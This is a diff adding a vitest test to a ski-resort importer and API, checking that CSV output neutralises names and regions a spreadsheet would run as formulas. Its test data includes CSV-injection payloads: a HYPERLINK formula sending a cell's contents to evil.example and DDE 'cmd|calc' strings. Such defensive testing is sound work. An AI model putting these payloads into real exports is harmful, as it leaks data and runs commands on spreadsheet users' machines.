@@ -1,13 +1,14 @@
 import { spawn, spawnSync } from 'node:child_process';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import Database from 'better-sqlite3';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { ensureDatabase } from '../src/data/db/build.js';
 import { slugify, uniqueSlug } from '../src/importer/slug.js';
-import { getJson, startTestServer, privateDatabase } from './helpers/server.js';
+import { getJson, startTestServer, privateDatabase, TEST_KEY, testDir } from './helpers/server.js';
 import { everyDocumentedPath } from './helpers/paths.js';
 import { cliCommand } from './helpers/process.js';
 import { until } from './helpers/wait.js';
@@ -176,6 +177,61 @@ describe('npm run import', () => {
       expect(query(dbPath, "SELECT resort_id FROM resort_sources WHERE source_id = 'oss-2'")).toEqual([{ resort_id: 'zermatt' }, { resort_id: 'zermatt' }]);
     } finally {
       server.close();
+    }
+  });
+
+  it('imported names a spreadsheet would run as formulas come out of CSV neutralised (a leading quote); JSON, NDJSON and numbers unchanged', async () => {
+    // What anyone can put into OpenStreetMap, and so into OpenSkiStats' file (OWASP: CSV injection).
+    const hostile = [
+      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', region: 'Nordurland' },
+      { name: "@SUM(1+1)*cmd|' /C calc'!A0", region: '+cmd' },
+      { name: 'Kaldbakur', region: '-cmd|calc' },
+      { name: '\tTabbed', region: '\rReturned' },
+    ];
+    const file = path.join(testDir('gateway-hostile-'), 'ski-areas.json');
+    writeFileSync(
+      file,
+      JSON.stringify({
+        ski_areas: hostile.map((h, i) => ({
+          ski_area_id: `hostile-${i}`,
+          ski_area_name: h.name,
+          osm_status: 'operating',
+          ski_area_uses: ['downhill'],
+          country_code: 'IS',
+          region: h.region,
+          lift_count: 2,
+          run_count: 5,
+          latitude: 65.6 + i / 10,
+          longitude: -18.1,
+          min_elevation: 100,
+          max_elevation: 900,
+        })),
+      }),
+    );
+    const dbPath = freshDb();
+    const r = importCli(dbPath, file);
+    expect(r.status, r.out).toBe(0);
+    const app = await startTestServer({ dbPath });
+    try {
+      const url = '/api/resorts?country=IS&limit=200';
+      const json = (await getJson(app, url)).body.resorts as { name: string; region: string; location: { lng: number }; conditions: { temperature: number } }[];
+      expect(json.map((x) => [x.name, x.region]).sort()).toEqual(hostile.map((h) => [h.name, h.region]).sort());
+      const ndjson = await fetch(app.url + url, { headers: { 'x-api-key': TEST_KEY, accept: 'application/x-ndjson' } }).then((res) => res.text());
+      const lines = ndjson.trim().split('\n');
+      expect(lines.map((line) => JSON.parse(line))).toEqual(json);
+      const csv = await getJson(app, url, { headers: { accept: 'text/csv' } });
+      expect(csv.contentType).toMatch(/^text\/csv/);
+      const rows = parseCsv(csv.body, { columns: true }) as Record<string, string>[];
+      const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+      expect(rows.map((x) => [x.name, x.region]).sort()).toEqual(hostile.map((h) => [neutralised(h.name), neutralised(h.region)]).sort());
+      // Every text cell starts with something a spreadsheet shows as text.
+      for (const row of rows) for (const [column, cell] of Object.entries(row)) if (!/^-?\d/.test(cell)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
+      // Numbers stay numbers: a negative longitude as it is (and the temperature, below zero or not).
+      expect(rows.map((x) => x['location.lng'])).toEqual(json.map((x) => String(x.location.lng)));
+      expect(rows.every((x) => /^-\d/.test(x['location.lng']!))).toBe(true);
+      expect(rows.map((x) => x['conditions.temperature'])).toEqual(json.map((x) => String(x.conditions.temperature)));
+    } finally {
+      await app.close();
     }
   });
 
